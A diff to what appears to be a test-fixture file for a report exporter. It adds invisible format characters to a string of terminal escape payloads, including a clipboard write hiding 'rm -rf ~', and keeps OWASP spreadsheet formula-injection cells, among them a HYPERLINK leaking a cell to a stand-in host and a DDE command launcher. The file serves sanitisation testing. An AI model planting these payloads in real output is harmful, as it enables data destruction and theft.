@@ -14,13 +14,16 @@ import path from 'node:path';
 import { gzipSync } from 'node:zlib';
 import { splitCsvLine } from '../../src/report/record-table.js';
 
-/** ESC ] 0 (window title), ESC [ 2 J (clear screen), ESC ] 52 (clipboard write), 8-bit CSI, RIGHT-TO-LEFT OVERRIDE. */
-export const ESCAPES = '\x1b]0;pwned\x07\x1b[2J\x1b]52;c;cm0gLXJmIH4=\x07\u009b31m\u202e';
+/**
+ * ESC ] 0 (window title), ESC [ 2 J (clear screen), ESC ] 52 (clipboard write), 8-bit CSI, RIGHT-TO-LEFT OVERRIDE, and
+ * invisible format characters (zero-width space, joiner, word joiner, byte order mark, a tag letter).
+ */
+export const ESCAPES = '\x1b]0;pwned\x07\x1b[2J\x1b]52;c;cm0gLXJmIH4=\x07\u009b31m\u202e\u200bz\u200d\u2060\ufeff\u{e0041}';
 /** Cells a spreadsheet would run (OWASP's examples), used as task, model and run names. */
 export const FORMULAS = ['=HYPERLINK("http://example.invalid/?x="&A1,"open")', "@SUM(1+1)*cmd|' /C calc'!A0", '+1+cmd', '-2+3'];
 
 // eslint-disable-next-line no-control-regex -- a raw control character is what must not be found
-const RAW_CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/;
+const RAW_CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f]|\p{Cf}/u;
 const FORMULA_START = /^[=+\-@\t\r]/;
 // `\d+(?:\.\d*)?`, not `\d+\.?\d*`: the same numbers, without splitting a run of digits every way before failing.
 const NUMBER = /^[+-]?(\d+(?:\.\d*)?|\.\d+)([eE][+-]?\d+)?$/;
